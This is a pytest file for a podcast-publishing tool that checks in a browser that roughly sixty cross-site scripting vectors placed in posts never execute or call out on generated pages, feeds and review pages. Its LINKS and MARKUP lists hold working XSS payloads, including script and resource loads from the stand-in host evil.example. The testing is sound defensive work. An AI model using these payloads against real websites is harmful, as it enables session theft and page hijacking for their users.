"""Known vectors of script injection in everything that a post says, and in every page that is made of it, in a real browser."""

from __future__ import annotations

import asyncio
import json
import re
import threading
from collections.abc import Iterator
from html import escape
from typing import Any

import feedparser
import pytest
from click.testing import CliRunner
from conftest import Site

from audioedition import publish
from audioedition.cli import main
from audioedition.preview import address, application, listen, serving
from audioedition.review import Desk
from audioedition.review import application as reviewing

ELSEWHERE = "https://evil.example/x"
ACT = "alert(1)"
LINKS = [
    f"javascript:{ACT}",
    f"JaVaScRiPt:{ACT}",
    f"java\tscript:{ACT}",
    f"java\nscript:{ACT}",
    f"\x01javascript:{ACT}",
    f" javascript:{ACT}",
    f"javascript&colon;{ACT}",
    f"javascript://%0a{ACT}//https://ferry.example/",
    f"data:text/html,<script>{ACT}</script>",
    f"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==#{ACT}",
    f"vbscript:{ACT}",
    f"blob:{ELSEWHERE}",
    f'https://ferry.example/"onmouseover="{ACT}',
    f"https://ferry.example/'onfocus='{ACT}' autofocus='",
    f"https://ferry.example/><script>{ACT}</script>",
    f"view-source:{ELSEWHERE}",
]
MARKUP = [
    f"<script>{ACT}</script>",
    f"</script><script>{ACT}</script>",
    f"</title><script>{ACT}</script>",
    f"</textarea><script>{ACT}</script>",
    f"</style><script>{ACT}</script>",
    f"--><script>{ACT}</script><!--",
    f"]]><script>{ACT}</script>",
    f"<script src={ELSEWHERE}></script>",
    "<script src=//evil.example/x.js></script>",
    f"<img src=x onerror={ACT}>",
    f"<img src={ELSEWHERE}>",
    f'"><img src=x onerror={ACT}>',
    f"'><img src=x onerror={ACT}>",
    f"`><img src=x onerror={ACT}>",
    f"<svg onload={ACT}>",
    f"<svg><script>{ACT}</script></svg>",
    f"<svg><animate onbegin={ACT} attributeName=x dur=1s>",
    f"<svg><a xlink:href='javascript:{ACT}'><text>x</text></a></svg>",
    f"<math><mtext><table><mglyph><style><img src=x onerror={ACT}>",
    f"<body onload={ACT}>",
    f"<iframe src='javascript:{ACT}'></iframe>",
    f"<iframe srcdoc='<script>parent.{ACT}</script>'></iframe>",
    f"<object data='javascript:{ACT}'></object>",
    f"<embed src='{ELSEWHERE}'>",
    f"<details open ontoggle={ACT}>",
    f"<input autofocus onfocus={ACT}>",
    f"<video><source onerror={ACT}></video>",
    f"<audio src={ELSEWHERE} onerror={ACT}></audio>",
    f"<marquee onstart={ACT}>",
    f"<form action='javascript:{ACT}'><button>go</button></form>",
    f"<meta http-equiv=refresh content='0;url={ELSEWHERE}'>",
    "<base href='https://evil.example/'>",
    f"<link rel=stylesheet href={ELSEWHERE}>",
    f"<style>@import '{ELSEWHERE}'; body {{ background: url({ELSEWHERE}) }}</style>",
    f"<div style='background: url({ELSEWHERE})'>x</div>",
    f"<template><script>{ACT}</script></template>",
    f"<noscript><p title='</noscript><img src=x onerror={ACT}>'>",
    f"<a href='javascript:{ACT}'>here</a>",
    f"{{{{ {ACT} }}}} {{% {ACT} %}} ${{{ACT}}}",
    f"\\u003cscript\\u003e{ACT}\\u003c/script\\u003e",
    f"&lt;script&gt;{ACT}&lt;/script&gt;",
    f"&#60;script&#62;{ACT}&#60;/script&#62;",
    f"%3Cscript%3E{ACT}%3C/script%3E",
    f"\ufeff<scr\u200bipt>{ACT}</scr\u200bipt>",
    f"<<script>script>{ACT}</script>",
    f"<xss id=x tabindex=1 onfocus={ACT}></xss>",
]
WATCHED = "window.alert = () => console.error('ran'); window.print = window.alert;"
LEFT = """() => [...document.querySelectorAll('*')].flatMap(e => [...e.attributes].filter(a =>
  /^on/i.test(a.name) || a.name !== 'srcdoc' && /^[\\x00-\\x20]*(javascript|vbscript|data:text)/i.test(a.value)
  && ['href', 'src', 'action', 'data', 'formaction', 'xlink:href'].includes(a.name)
).map(a => `${e.tagName} ${a.name}=${a.value}`))"""


def sentence(vector: str) -> str:
    return f"The ferry leaves at ten, {vector}."


def plain(vectors: list[str]) -> str:
    """A post in plain text, in which all is text."""
    lines = [" ".join(" ".join(each.split()) for each in vectors), *map(sentence, vectors)]
    return "\n\n".join(lines)


def markdown(vectors: list[str]) -> str:
    """A post with each in the front matter, as a key, too; as code, as markup, as a link, and as words of a picture."""
    said = {
        "title": {"en": vectors[0], "de": vectors[1]},
        "author": vectors[:4],
        "tags": vectors,
        "translator": vectors[2],
        "rights": vectors[3],
        "licence": vectors[4],
        "image": vectors[5],
        **{f"key {each}": each for each in vectors},
    }
    front = "\n".join(f"{json.dumps(key)}: {json.dumps(value)}" for key, value in said.items())
    body = []
    for each in vectors:
        body += [
            f"## {each}",
            f"{sentence(each)} `{each}` [{each}]({each}) ![{each}]({each}) <{each}>",
            f"    {each}",
        ]
    return f"---\n{front}\n---\n" + "\n\n".join(body)


def html(vectors: list[str]) -> str:
    """A page in which they are text, addresses, and words of pictures; and once more as the markup that they are."""
    parts = []
    for each in vectors:
        said = escape(each)
        parts += [
            f'<p>{escape(sentence(each))} <a href="{said}" title="{said}">{said}</a></p><pre><code>{said}</code></pre>'
        ]
        parts += [f'<figure><img src="{said}" alt="{said}"><figcaption>{said}</figcaption></figure>{each}']
    head = "".join(
        f'<meta name="author" content="{said}"><meta property="og:image" content="{said}">'
        f'<meta name="keywords" content="{said}"><link rel="canonical" href="{said}">'
        for said in map(escape, vectors[:6])
    )
    return (
        f"<!DOCTYPE html><html lang='en'><head><title>{escape(vectors[0])}</title>{head}</head>"
        f"<body><article><h1>{escape(' '.join(vectors[:8]))}</h1>{''.join(parts)}</article></body></html>"
    )


@pytest.fixture(scope="module")
def hostile(tmp_path_factory: pytest.TempPathFactory) -> Site:
    """Everything published, and one post that waits to be heard."""
    site = Site(tmp_path_factory.mktemp("injection") / "site")
    made = {
        "plain.txt": plain(MARKUP[::2] + LINKS[::2]),
        "post.md": markdown(MARKUP[1::2] + LINKS[1::2]),
        "page.html": html(MARKUP),
        "addresses.html": html(LINKS),
    }
    for name, text in made.items():
        report = site.record(site.post(text, name))
        assert not report.error, report.error
        assert "recorded" in {each.state for each in report.outcomes}, name
    publish.publish(site.settings, site.archive)
    site.record(site.post(plain(MARKUP[::3] + LINKS[::3]), "waits.txt"), review=True)
    return site


class Watched:
    """A page of a browser, and what happens on it that must not."""

    def __init__(self, browser: Any) -> None:
        self._context = browser.new_context()
        self._context.add_init_script(WATCHED)
        self.page = self._context.new_page()
        self.faults: list[str] = []
        self.own: tuple[str, ...] = ("file:", "data:,")
        self.page.on("console", lambda message: self.faults.append(message.text))
        self.page.on("pageerror", lambda error: self.faults.append(str(error)))
        self.page.on("dialog", self._dismiss)
        self.page.on("request", lambda asked: self._ask(asked.url))

    def _dismiss(self, dialog: Any) -> None:
        self.faults.append(dialog.message)
        dialog.dismiss()

    def _ask(self, url: str) -> None:
        if not url.startswith(self.own):
            self.faults.append(url)

    def look(self, url: str) -> None:
        """Open a page, use what is on it, and see what is left in it."""
        self.page.goto(url)
        self.check(url)

    def check(self, name: str) -> None:
        self.page.wait_for_timeout(50)
        assert self.page.evaluate(LEFT) == [], name
        assert self.faults == [], name

    def close(self) -> None:
        self._context.close()


@pytest.fixture
def watched(browser: Any) -> Iterator[Watched]:
    found = Watched(browser)
    yield found
    found.close()


class Running:
    """An application, served as the commands serve it, in a thread."""

    def __init__(self, make: Any) -> None:
        self._socket = listen(0)
        self.address = address(self._socket)
        self._server = serving.Server(make(self.address))
        self._thread = threading.Thread(target=lambda: asyncio.run(self._server._serve([self._socket])))

    def __enter__(self) -> str:
        self._thread.start()
        return self.address

    def __exit__(self, *_: object) -> None:
        self._server.should_exit = True
        self._thread.join(30)


def test_nothing_that_a_post_says_runs_or_asks_anybody_on_a_page(hostile: Site, watched: Watched) -> None:
    feeds = hostile.root / "feeds"
    pages = [path.relative_to(feeds).as_posix() for path in sorted(feeds.rglob("*.html"))]
    assert len(pages) >= 6
    with Running(lambda where: application(hostile.settings, hostile.archive, where)) as where:
        watched.own = (where, "data:,")
        for page in pages:
            watched.look(f"{where}/{page}")
    watched.own = (feeds.as_uri(), "data:,")
    for page in pages:
        watched.look((feeds / page).as_uri())


def test_nothing_that_a_post_says_runs_in_show_notes(hostile: Site, watched: Watched) -> None:
    """As an app shows them that has no policy of its own."""
    watched.own = ("about:",)
    for feed in hostile.root.glob("feeds/*/feed*.xml"):
        entries = feedparser.parse(feed.read_bytes(), sanitize_html=False).entries
        for entry in entries:
            for said in entry.get("content", []):
                watched.page.set_content(said.value)
                watched.check(entry.link if "link" in entry else entry.id)


def test_nothing_that_a_post_says_runs_on_a_page_for_its_author(
    hostile: Site, watched: Watched, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.chdir(hostile.root)
    names = ["plain.txt", "post.md", "page.html", "addresses.html"]
    for command in ("split", "script"):
        done = CliRunner().invoke(main, [command, *names, "--html", f"{command}.html"])
        assert done.exit_code == 0, done.output
        watched.look((hostile.root / f"{command}.html").as_uri())
    done = CliRunner().invoke(main, ["lexicon", "suggest", "waits.txt", "--html", "words.html"])
    assert done.exit_code == 0, done.output
    watched.look((hostile.root / "words.html").as_uri())


def test_nothing_that_a_post_says_runs_on_the_page_of_a_review(hostile: Site, watched: Watched) -> None:
    secret = "x" * 43
    desk = Desk(hostile.root, hostile.archive)
    with Running(lambda _: reviewing(desk, secret)) as where:
        watched.own = (where, "data:,")
        watched.look(f"{where}/{secret}/")
        assert watched.page.locator(".episode").count() >= 1


def test_the_browser_would_tell(watched: Watched) -> None:
    """That these tests see what they look for."""
    for vector in (f"<script>{ACT}</script>", f"<img src={ELSEWHERE}>", f"<a href='javascript:{ACT}'>x</a>"):
        watched.page.set_content(vector)
        with pytest.raises(AssertionError):
            watched.check(vector)
        watched.faults.clear()


def test_the_vectors_are_many() -> None:
    assert len({*LINKS, *MARKUP}) >= 60
    assert all(re.search(r"alert|evil", each) for each in (*LINKS, *MARKUP))
